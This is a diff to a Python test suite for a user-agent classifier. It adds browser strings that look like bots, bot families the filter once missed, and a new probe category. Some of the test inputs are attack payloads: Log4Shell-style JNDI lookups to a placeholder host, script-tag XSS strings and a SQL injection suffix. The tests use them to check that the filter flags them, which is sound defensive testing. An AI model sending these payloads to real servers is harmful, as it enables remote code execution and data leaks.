@@ -11,10 +11,12 @@ from hypothesis import strategies as st
 
 from collector import useragents
 from collector.useragents import (
+    APP_CLIENT,
     AUTOMATION,
     CRAWLER_LIST,
     EMPTY,
     MALFORMED,
+    PROBE,
     SPIDER,
     UNKNOWN,
     Agent,
@@ -182,6 +184,67 @@ def test_upstream_examples_that_are_really_browsers_are_kept() -> None:
     assert [describe(ua).bot for ua in UPSTREAM_MISLABELLED] == [None] * len(UPSTREAM_MISLABELLED)
 
 
+# Real browsers whose product tokens or device names contain a crawler-list word or a bot-ish
+# word, and the bot families the filter once missed (both from issue 16, written out here).
+BROWSERS_THAT_LOOK_LIKE_BOTS = [
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Mobile Safari/537.36 (Ecosia android@150.0.0.0)",
+    "Mozilla/5.0 (Linux; Android 10; V2029 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.101 Mobile Safari/537.36 SogouMobileBrowser/5.30.10",
+    "Mozilla/5.0 (Linux; Android 4.1.2; HTC Butterfly Build/JZO54K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/40.0.2214.89 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 10; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 11; Fever_Plus) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 10; DESAY TS1008 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/110.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 9; CUBOT P30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Code/1.96.0 Chrome/128.0.6613.186 Electron/32.2.6 Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Trae/1.107.1 Chrome/142.0.7444.235 Electron/39.2.7 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_6) AppleWebKit/537.36 (KHTML, like Gecko) YLT Chrome/85.0.4183.121 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7; TSM-turingos-1234567890) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Fluid/2.1.2 Safari/605.1.15",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.123 Mobile Safari/537.36 CamScanner/4.8.5",
+    "MozacFetch/120.0.1",
+    "Mozilla/5.0 (Windows; U; Windows NT 10.0; en-US; Valve Steam Client/default/1716584290; ) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.183 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 10; GLX Spider)",  # a device name; nothing after the platform comment
+    "Android 13) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/118.0.0.0 Mobile DuckDuckGo/5 Safari/537.36",
+]
+BOTS_ONCE_MISSED = [
+    "Mozilla/5.0 (en-us) AppleWebKit/537.36(KHTML, like Gecko; Google-Adwords-DisplayAds-WebRender;) Chrome/120.0.0.0Safari/537.36",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; GoogleAdwordsExpress) Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Page Speed Insights) Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Search Console) Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google-Sites-Thumbnails) Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 11; Pixel 2; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36 (compatible; Google-AMPHTML)",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1 (GoogleBot)",
+    "Datadog/Synthetics",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 DynatraceSynthetic/1.300",
+    "Mozilla/5.0 (Windows NT 10.0; WOW64; rv:115.0; Neustar WPM) Gecko/20100101 Firefox/115.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 CloudflareObservatory/1.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0 YottaaMonitor",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0 DejaClick/2.9.7.2",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) TagInspector/500.1 Chrome/120.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (X11; Windows x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Functionize",
+    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; pageburst) Chrome/120.0.0.0 Safari/537.36",
+    "ELB-HealthChecker/2.0",
+    "ApacheBench/2.3",
+    "Prometheus/2.53.0",
+    "Snapchat/12.06.0.31 (iPhone12,1; iOS 17.1; gzip) grpc-c++/1.33.2 grpc-c/13.0.0 (ios; cronet_http)",
+    "ddg_android/5.200.0 (com.duckduckgo.mobile.android; Android API 34)",
+    "PHP-SOAP/8.2.0",
+    "${jndi:ldap://${hostName}.useragent.example.test/a}",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(document.domain)</script>",
+    "Mozilla/5.0 (compatible)",
+]
+
+
+@pytest.mark.parametrize("user_agent", BROWSERS_THAT_LOOK_LIKE_BOTS)
+def test_keeps_browsers_whose_names_look_like_bots(user_agent: str) -> None:
+    assert describe(user_agent).bot is None
+
+
+@pytest.mark.parametrize("user_agent", BOTS_ONCE_MISSED)
+def test_drops_the_bot_families_once_missed(user_agent: str) -> None:
+    assert describe(user_agent).bot is not None
+
+
 # --------------------------------------------------------------------------- exact answers
 
 CHROME_WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"
@@ -229,10 +292,20 @@ def test_describes_well_known_browsers(user_agent: str, expected: tuple[str, str
         ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", SPIDER),
         ("Mozilla/5.0 (compatible; Sonic/1.0; http://www.yama.info.waseda.ac.jp/~crawler/info.html)", SPIDER),
         ("wget/1.21", CRAWLER_LIST),  # upstream's pattern is [wW]get
-        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36", CRAWLER_LIST),
+        # The crawler list names it too, but in the slot where apps that embed Chromium write their
+        # name (masked for the list, see useragents._masked); the automation markers catch it.
+        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.109 Safari/537.36", AUTOMATION),
         ("Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/24.0.0", AUTOMATION),
         ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 HeadlessEdg/120.0", AUTOMATION),
         ("Mozilla/5.0 (compatible; RankSonicSiteAuditor/1.0; +https://ranksonic.com/ranksonic_sab.html)", AUTOMATION),
+        ("${jndi:ldap://${hostName}.useragent.example.test}", PROBE),
+        ("Mozilla/5.0 <script>alert(1)</script>", PROBE),
+        ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0 Safari/537.36' OR 1=1--", PROBE),
+        ("Snapchat/12.21.0.34 (T602DL; Android 12#vU6P#31; gzip) V/MUSHROOM grpc-c++/1.33.2", AUTOMATION),
+        ("ddg_android/5.121.0 (com.duckduckgo.mobile.android; Android API 28)", APP_CLIENT),
+        ("GoogleAuth/1.4 (a5xelte NRD90M); gzip,gzip(gfe),gzip(gfe)", APP_CLIENT),
+        ("PHP-SOAP/7.4.33", AUTOMATION),
+        ("Mozilla/5.0 (compatible)", MALFORMED),
         ("Viber", MALFORMED),
         ("Mozilla/5.0", MALFORMED),
         ("x/1", MALFORMED),
@@ -263,12 +336,19 @@ def test_uses_the_rust_resolver() -> None:
     ("patterns", "ignore_case"),
     [
         (useragents.crawler_patterns(), False),
+        (useragents.PROBE_PATTERNS, True),
+        (useragents.SPIDER_PATTERNS, True),
         (useragents.AUTOMATION_PATTERNS, True),
+        (useragents.RUNTIME_PATTERNS, False),
+        (useragents.APP_CLIENT_PATTERNS, True),
+        (useragents.MALFORMED_PATTERNS, False),
+        (useragents.PRODUCT_START_PATTERNS, False),
+        (useragents.PLATFORM_PATTERNS, True),
         (useragents.BIG_SCREEN_PATTERNS, False),
         (useragents.TABLET_PATTERNS, False),
         (useragents.MOBILE_PATTERNS, False),
     ],
-    ids=["crawler-list", "automation", "big-screen", "tablet", "mobile"],
+    ids=["crawler-list", "probe", "spider", "automation", "runtime", "app-client", "malformed", "product-start", "platform", "big-screen", "tablet", "mobile"],
 )
 def test_rust_and_python_matchers_agree(patterns: list[str], ignore_case: bool) -> None:
     """The Rust set is an optimisation; it must not change a single verdict, and the ``re``
@@ -313,7 +393,7 @@ def test_cache_key_is_bounded() -> None:
 def test_never_raises_on_arbitrary_text(user_agent: str) -> None:
     agent = describe(user_agent)
     assert agent.device in {"desktop", "mobile", "tablet"}
-    assert agent.bot in {None, EMPTY, SPIDER, CRAWLER_LIST, AUTOMATION, MALFORMED}
+    assert agent.bot in {None, EMPTY, PROBE, SPIDER, CRAWLER_LIST, AUTOMATION, APP_CLIENT, MALFORMED}
 
 
 @settings(max_examples=200, deadline=None)
